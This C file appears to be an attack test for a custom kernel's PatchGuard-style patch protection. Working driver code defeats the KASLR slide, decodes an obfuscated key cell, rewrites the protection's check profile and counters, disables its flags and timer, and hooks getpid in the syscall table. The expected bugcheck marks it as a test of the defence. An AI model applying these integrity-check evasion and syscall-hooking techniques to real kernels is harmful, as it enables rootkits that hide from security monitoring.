/* attack_a91_profile (A91): the fast profile made to check like the windows
 * one. The triggers' own records and running counts are sealed under the
 * own key (patchguard/records.c); how often the NMI compares them, and
 * whether the running counts are sealed at all, follows the profile kept
 * in the own key's cell, which word 1 of that cell holds XORed with the
 * cell's stream key alone. Both the cell's encrypted address and that
 * stream key are plain kernel data: the scenario writes their addresses
 * (pg_cell_enc, pg_cell_key), printk's (for the kernel's random base, as
 * attack_a73 does), the NMI's count (nmi_count) and the triggers' own
 * records (tick_started, wd_started, piggy_started, nmi_on) from the built
 * image into the driver. With interrupts masked it then finds the cell,
 * XORs the windows profile over the fast one in its word 1 (no hash
 * recomputed, the own key never read) and sets the NMI's count to 1 (the
 * NMI compared the records in windows only when its count was a multiple
 * of 256, a count the windows profile leaves unsealed), clears the four
 * records (A71) and does what attack_a50_freeze does: PatchGuard's live and
 * armed flags cleared, its timer cancelled, getpid hooked.
 * Expected: 0x109 type 0x101. */
#include "attack_pg.h"

#define CELL_ROT 23

/* Set by the scenario from the built image's symbols (the last one starts the attack). */
volatile uint64_t printk_at, cell_enc_at, cell_key_at, tick_started_at, wd_started_at, piggy_started_at, nmi_on_at,
	nmi_count_at;

static struct ktimer wait_timer;
static struct dpc wait_dpc;

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

static void attack(struct dpc *d, void *ctx)
{
	if (!nmi_count_at || !cell_enc_at || !cell_key_at || !printk_at || !tick_started_at || !wd_started_at ||
	    !piggy_started_at || !nmi_on_at)
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	volatile uint64_t *enc = (volatile uint64_t *)(cell_enc_at + slide);
	volatile uint64_t *key = (volatile uint64_t *)(cell_key_at + slide);
	volatile uint64_t *count = (volatile uint64_t *)(nmi_count_at + slide);
	volatile bool *records[] = {(volatile bool *)(tick_started_at + slide), (volatile bool *)(wd_started_at + slide),
				    (volatile bool *)(piggy_started_at + slide), (volatile bool *)(nmi_on_at + slide)};
	nmi_count_at = 0;
	timer_cancel(&wait_timer);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	struct pg_state *pg = a_find_pg();
	uint64_t *table = a_find_service_table();
	uint64_t k = *key, cell = *enc ^ ((k << CELL_ROT) | (k >> (64 - CELL_ROT)));
	if (!pg || !table || (cell >> 47) != 0x1FFFF || (cell & 7)) {
		a_restore(pf);
		printk("attack_a91: PatchGuard's state, the service table or the own key's cell not found\n");
		return;
	}
	volatile uint64_t *profile = (volatile uint64_t *)cell + 1;
	*profile ^= KPP_PG_PROFILE_FAST ^ KPP_PG_PROFILE_WINDOWS;
	*count = 1;
	for (unsigned i = 0; i < 4; i++)
		*records[i] = false;
	pg->live = false;
	pg->nmi_armed = false;
	pg->wd_armed = false;
	timer_cancel(pg->timer);
	uint64_t hook = (uint64_t)&hooked_getpid;
	a_write_protected(&table[KPP_SYS_GET_PID], &hook, sizeof hook);
	printk("attack_a91: the sealed profile in the own key's cell set to windows, the NMI's count to 1, the "
	       "triggers' records and PatchGuard's flags cleared, its timer cancelled, getpid hooked\n");
	printk("~ attack_a91: cell at %p\n", (void *)cell);
	a_patched("attack_a91");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	dpc_init(&wait_dpc, attack, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 1000000ull);
	printk("attack_a91: waiting for the addresses of the own key's cell, the NMI's count and the triggers' records\n");
	return KPP_STATUS_SUCCESS;
}
